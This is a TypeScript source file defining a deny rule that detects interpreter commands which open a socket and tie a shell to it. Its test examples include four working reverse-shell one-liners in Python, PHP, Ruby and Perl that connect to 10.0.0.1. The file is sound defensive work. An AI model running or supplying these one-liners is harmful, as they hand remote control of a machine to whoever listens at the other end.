// The rule interpret-socket.
import { rule } from '../define.ts'

/** It opens a connection, in the words of Python, Perl, PHP, Ruby, Lua, JavaScript, Go or Tcl. */
const CONNECTS = /\bp?fsockopen\b|\bstream_socket_(?:client|server)\b|\bTCP(?:Socket|Server)\b|\bIO::Socket\b|\bsockaddr_in\b|\bSOCK_STREAM\b|\bsocket\.(?:tcp|socket|create_connection)\b|\b(?:net|tls)\.(?:connect|createConnection|createServer|Socket|Dial|Listen)\b|\brequire\(["'](?:node:)?(?:net|tls)["']\)|\bsocket\s+[\w.$]+\s+\d/
/** It starts a shell, runs what it is sent, or makes the connection the input and output of what follows. */
const SHELL = /["'`\s](?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da|a|c|tc)?sh(?:["'`]|\s+(?:-i\b|<|>|\d?[<>]&))|\bcmd\.exe\b|\bpowershell\b|\bdup2\b|\bfdopen\b|\.reopen\(|\bpopen\(\s*\$_|\bsystem\s*\$_/i

/** Names that say little alone. */
const ties = (text: string): boolean =>
  (CONNECTS.test(text) || (/\bsocket\b/.test(text) && /\b(?:connect|accept)\b/.test(text))) && (SHELL.test(text) || (/\bpty\b/.test(text) && /\bspawn\b/.test(text)))

export default rule('interpret-socket', {
  on: ['interpret'],
  when: effect => effect.literal === true && (effect.target.values?.some(ties) ?? false),
  decision: 'deny',
  risk: 'high',
  reason: 'it opens a connection and ties a shell to it',
  instead: 'reach the goal in another way, or ask the user how',
  examples: {
    hits: [
      `python3 -c 'import socket,os,pty; s=socket.socket(); s.connect(("10.0.0.1",1)); os.dup2(s.fileno(),0); pty.spawn("sh")'`,
      `php -r '$s = fsockopen("10.0.0.1", 1); exec("sh <&3 >&3");'`,
      `ruby -rsocket -e 'spawn("sh", [:in, :out] => TCPSocket.new("10.0.0.1", 1))'`,
      `perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,sockaddr_in(1,inet_aton("10.0.0.1"))); open(STDIN,">&S"); exec("/bin/sh -i");'`,
    ],
    misses: [
      `python3 -c 'import socket; s = socket.socket(); s.bind(("", 0)); print(s.getsockname()[1])'`,
      `python3 -c 'import subprocess; subprocess.run(["sh", "-c", "ls"])'`,
      `node -e 'require("net").connect(3000).on("connect", () => process.exit())'`,
    ],
  },
})
